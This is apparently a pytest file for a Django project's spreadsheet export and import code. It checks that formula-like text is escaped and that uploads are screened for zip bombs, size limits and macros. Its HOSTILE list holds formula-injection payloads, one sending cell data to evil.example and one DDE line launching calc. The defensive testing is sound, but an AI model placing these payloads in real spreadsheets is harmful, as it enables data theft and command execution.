"""The one spreadsheet writer and reader: text a person typed never becomes
a formula; numbers and dates stay numbers and dates; an uploaded workbook is
inspected before it is parsed and read within row and column limits."""

from __future__ import annotations

import datetime as dt
import io
import re
import zipfile
from typing import Any

import pytest
from django.core.exceptions import ValidationError
from django.utils import timezone, translation
from openpyxl import load_workbook

from xieshang.core import spreadsheets
from xieshang.core.exports import xlsx_response
from xieshang.core.spreadsheets import SheetLimits, Style, WorkbookWriter, read_rows, table_workbook
from xieshang.core.tests import hostile_files as hostile

HOSTILE = [
    '=WEBSERVICE("http://evil.example/?d="&ENCODEURL(E2))',
    "+86 138 0000 0000",
    "-1+1",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
]
LIMITS = SheetLimits(rows=10, columns=5)


def sheet_xml(content: bytes) -> str:
    with zipfile.ZipFile(io.BytesIO(content)) as archive:
        return archive.read("xl/worksheets/sheet1.xml").decode()


def first_row(content: bytes, row: int = 2) -> list[Any]:
    sheet = load_workbook(io.BytesIO(content)).worksheets[0]
    return list(sheet[row])


@pytest.mark.parametrize("text", HOSTILE)
def test_text_that_could_start_a_formula_is_written_as_text_with_a_quote_prefix(text):
    content = table_workbook(sheet_title="名册", headers=["工作单位及职务"], rows=[[text]])
    assert "<f>" not in sheet_xml(content)
    [cell] = first_row(content)
    assert cell.value == text
    assert cell.data_type == "s"
    assert cell.quotePrefix is True


def test_numbers_dates_booleans_and_plain_text_keep_their_types():
    moment = timezone.make_aware(dt.datetime(2026, 3, 5, 9, 30))
    row = [12, 3.5, dt.date(2026, 3, 5), moment, True, "市实验中学校长", "2026-03-05"]
    content = table_workbook(sheet_title="表", headers=list("ABCDEFG"), rows=[row])
    cells = first_row(content)
    assert [c.value for c in cells[:2]] == [12, 3.5]
    assert cells[2].value == dt.datetime(2026, 3, 5) and cells[2].is_date
    assert cells[3].value == dt.datetime(2026, 3, 5, 9, 30)  # local wall-clock time
    assert cells[4].value is True
    assert [c.value for c in cells[5:]] == ["市实验中学校长", "2026-03-05"]
    assert not any(c.quotePrefix for c in cells)


def test_negative_numbers_stay_numbers():
    [cell] = first_row(table_workbook(sheet_title="表", headers=["调整"], rows=[[-5]]))
    assert cell.value == -5 and cell.data_type == "n" and not cell.quotePrefix


def test_control_characters_are_dropped_instead_of_breaking_the_file():
    [cell] = first_row(table_workbook(sheet_title="表", headers=["意见"], rows=[["第一\x0b条\x00"]]))
    assert cell.value == "第一条"


def test_styles_widths_text_columns_and_choice_lists():
    book = WorkbookWriter()
    sheet = book.add_sheet("名册", widths=[20, 8], freeze_header=True)
    options = book.add_sheet("选项")
    sheet.append(["姓名", "性别"], style=Style(bold=True, fill="DDEBF7"))
    sheet.append(["=张三", None], style=Style(italic=True, color="808080"), text_columns={2})
    options.append(["性别"])
    options.append(["男"])
    options.append(["女"])
    options.hide()
    sheet.add_choice_list(
        column=2, rows=range(2, 11), source=options, source_column=1, source_rows=range(2, 4), error="选"
    )
    workbook = load_workbook(io.BytesIO(book.to_bytes()))
    roster = workbook["名册"]
    assert roster["A1"].font.b and roster["A1"].fill.fgColor.rgb.endswith("DDEBF7")
    assert roster["A2"].font.i and roster["A2"].quotePrefix and roster["A2"].data_type == "s"
    assert roster["B2"].number_format == "@"
    assert roster.column_dimensions["A"].width == 20 and roster.freeze_panes == "A2"
    assert workbook["选项"].sheet_state == "hidden"
    [rule] = roster.data_validations.dataValidation
    assert rule.formula1 == "'选项'!$A$2:$A$3" and str(rule.sqref) == "B2:B10"


def test_the_one_table_download_is_an_attachment_that_browsers_may_not_sniff():
    response = xlsx_response(filename="统计.xlsx", sheet_title="2026", headers=["名称"], rows=[[HOSTILE[0]]])
    assert response["Content-Disposition"].startswith("attachment;")
    assert response["X-Content-Type-Options"] == "nosniff"
    assert "<f>" not in sheet_xml(response.content)


# ---------------------------------------------------------------- reading


def workbook(rows: list[list[Any]]) -> io.BytesIO:
    return io.BytesIO(table_workbook(sheet_title="名册", headers=rows[0], rows=rows[1:]))


def refusal(upload: io.BytesIO, limits: SheetLimits = LIMITS) -> ValidationError:
    with translation.override("en"), pytest.raises(ValidationError) as refused:
        list(read_rows(upload, limits=limits))
    return refused.value


def test_rows_are_read_within_the_limits_as_values():
    rows = list(read_rows(workbook([["姓名", "性别"], ["张三", "男"], ["李四", 1]]), limits=LIMITS))
    assert rows == [
        ("姓名", "性别", None, None, None),
        ("张三", "男", None, None, None),
        ("李四", 1, None, None, None),
    ]


def test_a_named_sheet_is_read_before_the_first():
    book = WorkbookWriter()
    book.add_sheet("说明").append(["说明"])
    book.add_sheet("名册").append(["姓名"])
    [row] = read_rows(io.BytesIO(book.to_bytes()), limits=LIMITS, sheet_name="名册")
    assert row[0] == "姓名"


def test_a_workbook_that_unpacks_to_a_gigabyte_is_refused_before_it_is_parsed(monkeypatch):
    def parse(*args, **kwargs):
        raise AssertionError("a bomb must be refused before openpyxl parses it")

    monkeypatch.setattr(spreadsheets, "load_workbook", parse)
    error = refusal(io.BytesIO(hostile.xlsx_bomb()))
    assert error.code == "unpacks_too_large"
    assert "would unpack to more than 100.0\xa0MB" in error.messages[0]
    assert len(error.messages[0]) < 200


def test_a_part_compressed_far_beyond_a_document_is_refused():
    error = refusal(io.BytesIO(hostile.xlsx_bomb(20 * hostile.MB)))
    assert error.code == "compression_ratio"


def test_a_workbook_of_too_many_parts_is_refused():
    assert refusal(io.BytesIO(hostile.xlsx_with_many_parts(1000))).code == "too_many_parts"


def test_rows_past_the_limit_are_refused():
    assert refusal(workbook([["姓名"]] + [[f"委员{i}"] for i in range(10)])).code == "too_many_rows"


def test_a_far_away_row_cannot_make_the_reader_fill_a_million_empty_rows():
    # One cell at the last row Excel has: openpyxl would hand out every row before it.
    content = hostile.xlsx_with_sheet(
        hostile.SHEET_START
        + b'<row r="1"><c r="A1" t="inlineStr"><is><t>name</t></is></c></row>'
        + b'<row r="1048576"><c r="XFD1048576" t="inlineStr"><is><t>x</t></is></c></row>'
        + hostile.SHEET_END
    )
    assert refusal(io.BytesIO(content)).code == "too_many_rows"


def test_a_dimension_that_lies_does_not_hide_rows():
    content = hostile.xlsx_with_sheet(
        hostile.SHEET_START.replace(b"<sheetData>", b'<dimension ref="A1:A1"/><sheetData>')
        + b"".join(hostile.inline_row(f"委员{i}") for i in range(3))
        + hostile.SHEET_END
    )
    rows = list(read_rows(io.BytesIO(content), limits=LIMITS))
    assert [r[0] for r in rows] == ["委员0", "委员1", "委员2"]


def test_columns_with_content_past_the_limit_are_refused():
    assert refusal(workbook([["A", "B", "C", "D", "E", "F"], [1, 2, 3, 4, 5, 6]])).code == "too_many_columns"


def test_empty_columns_past_the_limit_are_no_problem():
    rows = list(read_rows(workbook([["A", "B", "C", "D", "E", None], [1, 2, 3, 4, 5, ""]]), limits=LIMITS))
    assert rows[1] == (1, 2, 3, 4, 5)


@pytest.mark.parametrize(
    ("content", "code"),
    [
        (b"just text", "not_xlsx"),
        (b"%PDF-1.4\n1 0 obj<<>>endobj\n%%EOF", "not_xlsx"),
        (hostile.build_zip([hostile.Entry.of("hello.txt", "不是表格".encode())]), "unreadable"),
        (hostile.word_document(), "unreadable"),
    ],
)
def test_files_that_are_not_workbooks_are_refused_plainly(content, code):
    error = refusal(io.BytesIO(content))
    assert error.code == code
    assert re.search(r"Excel workbook \(\.xlsx\)", error.messages[0])


def test_a_macro_workbook_is_refused():
    source = io.BytesIO(table_workbook(sheet_title="表", headers=["姓名"], rows=[]))
    target = io.BytesIO()
    with zipfile.ZipFile(source) as plain, zipfile.ZipFile(target, "w") as macro:
        for name in plain.namelist():
            macro.writestr(name, plain.read(name))
        macro.writestr("xl/vbaProject.bin", b"\xd0\xcf\x11\xe0")
    assert refusal(target).code == "macros"
